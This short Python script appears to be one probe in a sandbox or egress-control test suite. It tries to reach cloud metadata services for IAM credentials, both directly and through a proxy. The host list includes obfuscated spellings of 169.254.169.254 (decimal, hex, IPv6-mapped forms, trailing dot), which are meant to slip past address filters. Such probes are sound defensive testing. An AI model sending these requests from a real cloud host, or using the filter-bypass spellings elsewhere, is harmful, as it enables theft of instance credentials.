"""Ask the cloud's metadata service for credentials: directly, by the proxy, in other spellings, under its names."""

# aims: outside
# control: none (only a machine in a cloud has one)
# seconds: 20
import socket

from attack import attempt, tried
from proxied import say

path = "/latest/meta-data/iam/security-credentials/"
tried()
for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "fd00:ec2::254"):
    attempt(lambda host=host: socket.create_connection((host, 80), 0.2))
for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "169.254.43518", "[::ffff:169.254.169.254]", "[fd00:ec2::254]",
             "[64:ff9b::a9fe:a9fe]", "metadata.google.internal", "instance-data", "169.254.169.254.", "metadata.azure.com"):  # fmt: skip
    say(f"GET http://{host}{path} HTTP/1.1\r\nHost: {host}\r\nMetadata-Flavor: Google\r\n\r\n".encode())
    say(f"CONNECT {host}:80 HTTP/1.1\r\nHost: {host}:80\r\n\r\n".encode())
